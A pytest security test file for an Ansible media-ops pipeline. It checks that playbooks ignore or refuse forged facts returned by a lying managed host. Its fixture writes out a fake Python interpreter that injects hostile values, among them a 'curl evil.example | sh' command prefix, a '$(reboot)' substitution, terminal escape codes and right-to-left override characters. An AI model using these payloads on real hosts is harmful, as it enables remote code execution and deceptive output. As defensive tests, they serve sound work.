"""A managed host in other hands: what answers in place of its Python sets nothing, and acts on nobody."""

from __future__ import annotations

import json
import os
import pwd
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from media_pipeline.launcher import Pipeline, running_pipeline

from tests.playbooks.conftest import REACHED, Play
from tests.receiver import receiver

pytestmark = pytest.mark.playbook

INJECTED = {"ANSIBLE_INJECT_FACT_VARS": "true"}  # core's default, as for the installed collection
CANARY = "evil.example"
SAID = "said by the liar"  # what it may do: be quoted as a warning
# Answers as the real Python does, and adds to it what it would like to be.
INTERPRETER = """#!{python}
import json, os, subprocess, sys
with open({log!r}, "a") as log:
    log.write(" ".join(sys.argv[1:]) + "\\n")
done = subprocess.run([{python!r}, *sys.argv[1:]], stdin=0, capture_output=True, text=True)
head, found, rest = done.stdout.partition("{{")
try:
    answer = json.loads(found + rest)
except ValueError:
    answer = {{}}
evil = json.loads({evil!r})
answer.update(evil)
sys.stdout.write(json.dumps(answer))
"""


@pytest.fixture(scope="module")
def sick(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pipeline]:
    """Its ffmpeg cannot run, and it says so."""
    with running_pipeline(tmp_path_factory.mktemp("sick")) as pipeline:
        pipeline.break_ffmpeg()
        yield pipeline


class Fleet:
    """A host that lies beside one that is honest and critical, on state directories of their own."""

    def __init__(self, directory: Path, honest: Pipeline) -> None:
        self.directory, self.log = directory, directory / "interpreter.log"
        self.stolen = directory / "stolen"
        wishes = {
            "media_ops_api_url": f"http://{CANARY}",
            "media_ops_api": {"api_url": f"http://{CANARY}", "api_token": "x"},
            "media_ops_hosts": "localhost",
            "report_dir": str(self.stolen),
            "report_command_prefix": f"curl {CANARY} | sh #",
            "report_channels": [{"name": "theirs", "type": "webhook", "url": f"http://{CANARY}/"}],
            "report_contacts": [{"area": CANARY, "name": CANARY, "contact": CANARY}],
            "policy_fail_on": [],
            "policy_checks": [],
            "policy_incidents": [],
            "policy_state_dir": str(self.stolen),
            "policy_breaker_share": 1,
            "incident_mode": "apply",
            "incident_breaker_reset": True,
            "automation_plan": "",
            "ansible_connection": "local",
            "ansible_become_method": CANARY,
            "ansible_python_interpreter": f"/usr/bin/{CANARY}",
            "ansible_check_mode": False,
            "healthcheck_result": {"verdicts": []},
            "discovered_interpreter_python": f"/usr/bin/{CANARY}",
        }
        evil = {
            "ansible_facts": wishes,
            "ansible_stats": {"data": {"media_ops_summary": {"state": CANARY}}, "aggregate": False, "per_host": False},
            "_ansible_facts": wishes,
            "add_host": {"host_name": CANARY, "groups": ["media_hosts"]},
            "add_group": CANARY,
            "warnings": [f"{SAID}\x1b]0;\x07\u202e{'w' * 500}", {"msg": SAID}, SAID],
            "deprecations": [{"msg": CANARY, "version": "1"}],
            "diff": [{"before": "\x1b[2J", "after": "\u202etxt.exe", "evil": wishes}, 7],
            "hash": "$(reboot)",
            "exception": CANARY,
            "invocation": {"module_args": wishes},
            "results": [{"ansible_facts": wishes}],
        }
        program = directory / "python3"
        program.write_text(
            INTERPRETER.format(python=sys.executable, log=str(self.log), evil=json.dumps(evil)), encoding="utf-8"
        )
        program.chmod(0o755)
        self.hosts = {
            # The liar comes first: it is the one whose variables a task with run_once sees.
            "a_liar": self._host("a_liar", honest, ansible_python_interpreter=str(program)),
            "honest": self._host("honest", honest),
        }

    def _host(self, name: str, pipeline: Pipeline, **more: Any) -> dict[str, Any]:
        for part in ("state", "archive"):
            (self.directory / name / part).mkdir(mode=0o750, parents=True)
        return {
            **REACHED,
            "media_ops_api_url": pipeline.api_url,
            "policy_base_dir": str(pipeline.base_dir),
            "policy_state_dir": str(self.directory / name / "state"),
            "policy_archive_dir": str(self.directory / name / "archive"),
            "policy_become": False,
            # Whether this machine has an ffmpeg decides nothing.
            "policy_service_path": "/nonexistent",
            "policy_service_unit": "media-ops-no-such-unit",
            "policy_service_user": pwd.getpwuid(os.geteuid()).pw_name,
            **more,
        }


# Playbooks that look, what they are called in the reports, and how the honest host is judged by them.
LOOKS = {
    "daily_morning_health_check": ("daily_morning", "critical"),
    "daily_evening_summary": ("daily_evening", "critical"),
    "quick_reference": ("quick_reference", "critical"),
    "watch_health": ("watch_health", "critical"),
    "incident_response": ("incident_response", "critical"),
    "automation_status": ("", ""),
    "check_setup": ("", "critical"),
}


@pytest.mark.parametrize("playbook", sorted(LOOKS))
def test_what_looks_takes_nothing_of_a_liar(playbook: str, play: Play, tmp_path: Path, sick: Pipeline) -> None:
    fleet, (report, state) = Fleet(tmp_path, sick), LOOKS[playbook]
    with receiver() as server:
        channels = [{"name": "ours", "type": "webhook", "url": server.webhook_url}]
        run = play(
            f"playbooks/{playbook}.yml", fleet.hosts, "-vv",
            expected_warning=("inject_facts_as_vars is true", "a_liar: "), environment=INJECTED, token=sick.token(),
            report_channels=channels,
        )  # fmt: skip
        told = server.bodies("webhook")
    assert fleet.log.exists(), "the liar was asked"
    assert run.code == (2 if state == "critical" else 0)
    assert not fleet.stolen.exists()
    assert CANARY not in run.output
    assert "\x1b]0;" not in run.output
    assert "\u202e" not in run.output
    assert "curl" not in run.output
    assert "incident_plan=$" not in run.output
    kept = "".join(path.read_text(encoding="utf-8") for path in run.artifacts.rglob("*") if path.is_file())
    assert CANARY not in kept, "what it said is in no artifact"
    if report:
        assert run.states(report)["honest"] == state
        assert "$(reboot)" not in json.dumps([run.result(report)[part] for part in ("incidents", "next")])
    if playbook == "watch_health":
        assert "honest" in json.dumps(told), "the channel of the site was told"
    if playbook == "incident_response":
        assert {host["response"]["mode"] for host in run.result("incident_response")["hosts"]} == {"plan"}


@pytest.mark.parametrize(
    ("playbook", "options"),
    [
        ("incident_response", ["-e", "incident_mode=apply"]),
        ("emergency_disk_cleanup", []),
        ("weekly_system_cleanup", []),
        ("automation_pause", ["-e", "automation_pause_reason=x"]),
        ("automation_resume", []),
        ("automation_mute", ["-e", "automation_mute=host automation_mute_reason=x automation_mute_for=60"]),
        ("automation_unmute", ["-e", "automation_mute=all"]),
        ("prepare_hosts", []),
    ],
)
def test_what_acts_refuses_where_facts_become_variables(
    playbook: str, options: list[str], play: Play, tmp_path: Path, sick: Pipeline
) -> None:
    fleet = Fleet(tmp_path, sick)
    run = play(f"playbooks/{playbook}.yml", fleet.hosts, *options, environment=INJECTED)
    assert run.code != 0
    assert "inject_facts_as_vars = false" in run.output
    assert not fleet.log.exists(), "no host was asked: " + fleet.log.read_text(encoding="utf-8")


def test_what_acts_takes_nothing_of_a_liar(play: Play, tmp_path: Path, sick: Pipeline) -> None:
    fleet = Fleet(tmp_path, sick)
    run = play(
        "playbooks/incident_response.yml", fleet.hosts, "-vv", token=sick.token(), incident_mode="apply",
        expected_warning="a_liar: ", policy_verify_samples=2, policy_verify_good=1, policy_verify_interval=0.1,
    )  # fmt: skip
    assert run.code == 2, run.output
    assert fleet.log.exists()
    liar = next(host for host in run.result("incident_response")["hosts"] if host["host"] == "a_liar")
    assert "$(reboot)" not in json.dumps([liar["response"]["plan"], liar["response"]["hash"]])
    assert CANARY not in run.output
    assert not fleet.stolen.exists()


def test_what_holds_for_the_fleet_is_the_same_for_all_hosts(play: Play, tmp_path: Path, sick: Pipeline) -> None:
    fleet = Fleet(tmp_path, sick)
    others: dict[str, Any] = {
        "report_dir": str(tmp_path / "other"),
        "report_channels": [{"name": "theirs", "type": "webhook", "url": "http://127.0.0.1:9/"}],
        "policy_fail_on": ["critical"],
        "policy_breaker_within": 60,
    }
    fleet.hosts["a_liar"] |= others
    run = play("playbooks/watch_health.yml", fleet.hosts)
    assert run.code != 0
    for name in others:
        assert f"{name} differs between a_liar and honest" in run.output
    assert not fleet.log.exists(), "no host was asked"
